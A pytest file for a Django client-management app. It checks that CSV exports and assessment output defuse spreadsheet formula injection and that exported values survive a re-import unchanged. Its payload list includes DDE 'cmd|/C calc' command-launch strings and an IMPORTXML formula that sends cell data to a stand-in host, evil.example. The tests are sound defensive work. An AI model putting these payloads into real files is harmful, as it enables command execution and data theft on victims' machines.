"""No CSV file that leaves has a cell that a spreadsheet would run, and what was written comes back as it was."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from zipfile import ZipFile

import pytest
from django.apps import apps
from django.core.management import call_command

from clients.models import Client
from tests.cast import Cast
from tests.management.commands_of_ours import told
from tests.security.poison import poison

FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil.example","x")',
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    " =1+1",
    "'=1+1",
    "''=1+1",
    '"=1+1"',
    "\uff1d1+1",
    '=1+1",=2+2',
    "=1+1;=2+2",
    '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
    '=WEBSERVICE("https://evil.example")',
    "%0A-3+3+cmd|' /C calc'!D2",
]
STARTS = tuple("=+@\t\r\n\uff1d\uff0b\uff0d\uff20")


def runs(cell: str) -> bool:
    """Return whether a spreadsheet might run it: numbers below zero it may."""
    text = cell.lstrip(" ")
    return text.startswith(STARTS) or (text.startswith("-") and not text[1:].replace(".", "").isdigit())


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_of_an_export_runs(formula: str, furnished: Client, tmp_path: Path) -> None:
    poison(formula)
    path = tmp_path / "here.zip"

    call_command("export", workspace="here", output=str(path), verbosity=0)

    with ZipFile(path) as archive:
        tables = {name: archive.read(name).decode() for name in archive.namelist() if name.endswith(".csv")}
    cells = [cell for text in tables.values() for row in csv.reader(io.StringIO(text)) for cell in row]
    assert len(tables) == 4
    assert [cell for cell in cells if runs(cell)] == []
    assert [cell for cell in cells if formula in cell]


@pytest.mark.parametrize("formula", FORMULAS)
def test_it_comes_back_as_it_was(formula: str, furnished: Client, people: Cast, tmp_path: Path) -> None:
    poison(formula)
    names = {"client": "name", "interaction": "facts", "obligation": "title"}
    before = {model: _texts(model, name, people.workspace.slug) for model, name in names.items()}
    call_command("export", workspace="here", output=str(tmp_path / "here.zip"), verbosity=0)
    ZipFile(tmp_path / "here.zip").extractall(tmp_path)

    files = {table: str(tmp_path / f"{table}.csv") for table in ("clients", "interactions", "obligations", "plans")}
    call_command("import_csv", workspace="again", create=True, verbosity=0, **files)

    assert {model: _texts(model, name, "again") for model, name in names.items()} == before


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_of_an_assessment_runs(formula: str, furnished: Client) -> None:
    poison(formula)

    said = told("assess", "--workspace", "here", "--format", "csv")

    cells = [cell for row in csv.reader(io.StringIO(said)) for cell in row]
    assert [cell for cell in cells if runs(cell)] == []


def _texts(model: str, name: str, slug: str) -> list[str]:
    rows = apps.get_model("clients", model)._default_manager.filter(workspace__slug=slug)
    alive = [row for row in rows if getattr(row, "deleted_at", None) is None]
    return sorted(str(getattr(row, name)).strip() for row in alive)
